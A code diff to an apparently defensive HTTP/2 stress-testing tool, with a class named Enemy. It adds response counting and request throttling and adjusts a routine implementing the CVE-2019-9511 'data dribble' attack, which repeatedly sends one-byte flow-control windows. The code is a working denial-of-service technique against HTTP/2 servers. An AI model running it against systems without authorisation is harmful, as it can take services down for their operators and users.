@@ -69,6 +69,7 @@ class Reader(threading.Thread):
         self.code = None  # of GOAWAY
         self.pongs = 0
         self.resets = 0
+        self.heads = 0  # of responses
         self.windows = {}  # given by the server, by stream
         self.has_ended = False
         self._input = bytearray(begin)
@@ -94,6 +95,7 @@ class Reader(threading.Thread):
             if kind == GOAWAY:
                 self.code = int.from_bytes(self._input[at + 13 : at + 17], "big")
             self.resets += kind == RST_STREAM
+            self.heads += kind == HEADERS
             self.pongs += kind == PING and self._input[at + 4] & ACK
             if kind == WINDOW_UPDATE:
                 stream_id, size = struct.unpack_from("!II", self._input, at + 5)
@@ -153,6 +155,18 @@ class Enemy:
             if is_in_step:
                 self.wait_read(end)
         return self.has_ended
+
+    def ask(self, requests, seconds, most=50):
+        """One request after the other, with at most so many without an answer."""
+        end = time.monotonic() + seconds
+        for count, request in enumerate(requests):
+            while count - self.reader.heads >= most and not self.has_ended:
+                if time.monotonic() > end + seconds:
+                    return
+                time.sleep(0.0005)
+            if self.has_ended or time.monotonic() >= end:
+                return
+            self.send(request)
 
     def wait_read(self, end):
         pongs = self.reader.pongs
@@ -445,6 +459,8 @@ def goaway_games(enemy):
 def data_dribble(enemy):
     """CVE-2019-9511: windows of a byte, again and again."""
     yield b"".join(enemy.headers(i, path="/large") for i in range(1, 200, 2))
+    while enemy.reader.heads < 100 and not enemy.has_ended:
+        time.sleep(0.001)
     drip = b"".join(window(i, 1) for i in range(1, 200, 2))
     yield from itertools.repeat(drip)
 
